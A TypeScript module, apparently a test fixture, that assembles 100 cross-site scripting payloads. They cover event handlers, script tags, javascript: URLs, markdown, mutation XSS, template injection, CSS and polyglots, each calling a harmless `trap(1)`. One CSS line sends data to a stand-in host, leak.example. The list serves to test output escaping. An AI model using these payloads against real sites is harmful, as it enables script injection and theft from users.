/** What is run where a text is taken for script. `trap` is there on every page that is looked at. */
const run = "trap(1)";
const entity = (text: string) => [...text].map((sign) => `&#${sign.codePointAt(0)};`).join("");

const byHandler = [
  "<img src=x onerror={}>", "<img/src=x/onerror={}>", "<svg onload={}>", "<svg/onload={}//", "<body onload={}>", "<input autofocus onfocus={}>",
  "<select autofocus onfocus={}>", "<textarea autofocus onfocus={}>", "<video><source onerror={}></video>", "<audio src=x onerror={}>",
  "<details open ontoggle={}>", "<marquee onstart={}>", "<object data=x onerror={}>", "<iframe onload={}>", "<div onmouseover={} style=position:fixed;inset:0>x</div>",
  "<style onload={}></style>", "<link rel=stylesheet href=x onerror={}>", "<button autofocus onfocus={}>", "<a id=x tabindex=1 onfocus={}>", "<keygen autofocus onfocus={}>",
  "<svg><animate onbegin={} attributeName=x dur=1s>", "<svg><set onbegin={} attributeName=x>", "<isindex type=image src=1 onerror={}>", "<x contenteditable onblur={} autofocus>",
  "<img src=x:x onerror\u000b={}>", "<IMG SRC=x OnErRoR={}>", "\"><img src=x onerror={}>", "'><img src=x onerror={}>", "--><img src=x onerror={}>", "</textarea><img src=x onerror={}>",
  "</title><img src=x onerror={}>", "</script><img src=x onerror={}>", "]]><img src=x onerror={}>", "\" autofocus onfocus={} x=\"", "' onmouseover='{}", "` onerror=`{}",
]; // prettier-ignore
const byScript = [
  "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<script/x>{}</script>", "<<script>{}//<</script>", "<script>/*</script><script>*/{}</script>", "\"><script>{}</script>",
  "</script><script>{}</script>", "<svg><script>{}</script></svg>", "<math><mtext><script>{}</script>", "<script src=data:,{}></script>", "<script type=module>{}</script>",
  "<noscript><p title=\"</noscript><script>{}</script>\">", "<iframe srcdoc=\"<script>parent.{}</script>\"></iframe>", "<template><script>{}</script></template>",
]; // prettier-ignore
const byAddress = [
  "javascript:{}", "JaVaScRiPt:{}", " javascript:{}", "java\tscript:{}", "javascript&colon;{}", "javascript://host/%0a{}", "data:text/html,<script>{}</script>",
  "vbscript:{}", "<a href=javascript:{}>click</a>", "<a href=\"jav&#x09;ascript:{}\">x</a>", "<iframe src=javascript:{}></iframe>", "<form action=javascript:{}><input type=submit></form>",
  "<button formaction=javascript:{} autofocus>x</button>", "<base href=javascript:/a/-{}//>", "<embed src=javascript:{}>", "<object data=javascript:{}>", "<meta http-equiv=refresh content=0;url=javascript:{}>",
  "<svg><a xlink:href=javascript:{}><text y=1em>x</text></a></svg>", "<math href=javascript:{}>x</math>", "feed:javascript:{}",
]; // prettier-ignore
const byMarkdown = [
  "[click](javascript:{})", "[click](JaVaScRiPt:{})", "![x](javascript:{})", "[x]: javascript:{}\n[x]", "<javascript:{}>", "[a](data:text/html;base64,PHNjcmlwdD50cmFwKDEpPC9zY3JpcHQ+)",
  "```html\n<img src=x onerror={}>\n```", "![\" onerror={} x=\"](x)", "[x](https://x\" onmouseover={} \")", "**<img src=x onerror={}>**",
]; // prettier-ignore
const byMutation = [
  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={}&gt;\">", "<svg></p><style><a id=\"</style><img src=1 onerror={}>\">",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror={}>", "<noembed><img title=\"</noembed><img src onerror={}>\"></noembed>", "<listing>&lt;img src=1 onerror={}&gt;</listing>",
  "<p id=\"</p><img src=x onerror={}>\">", "\u202e<img src=x onerror={}>\u202c", "＜img src=x onerror={}＞", "<img src=x onerror=\u0000{}>".replace("\u0000", "&#0;"), "\ufeff<svg onload={}>",
]; // prettier-ignore
const byTemplate = [
  "{{constructor.constructor('{}')()}}", "${{}}", "#{{}}", "<%= {} %>", "$t(common.save, {\"x\":\"{}\"})", "{{7*7}}", "__proto__[onerror]={}",
]; // prettier-ignore
const byStyle = [
  "<style>@import'javascript:{}';</style>", "<div style=background:url(javascript:{})>x</div>", "x;background:url(//leak.example/?{})", "<style>*{display:none}</style>",
]; // prettier-ignore
const byPolyglot = [
  "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd={}//>\\x3e",
  "'\"--></style></script><svg/onload=\"{}\">", "<img src=x onerror=&#123;entity&#125;>",
]; // prettier-ignore

const all = [
  ...byHandler,
  ...byScript,
  ...byAddress,
  ...byMarkdown,
  ...byMutation,
  ...byTemplate,
  ...byStyle,
  ...byPolyglot,
];

/** A hundred texts that a browser runs if they ever come to it as anything but text. */
export const scriptPayloads: readonly string[] = all
  .map((text) => text.replaceAll("{}", run).replace("&#123;entity&#125;", entity(run)))
  .slice(0, 100);
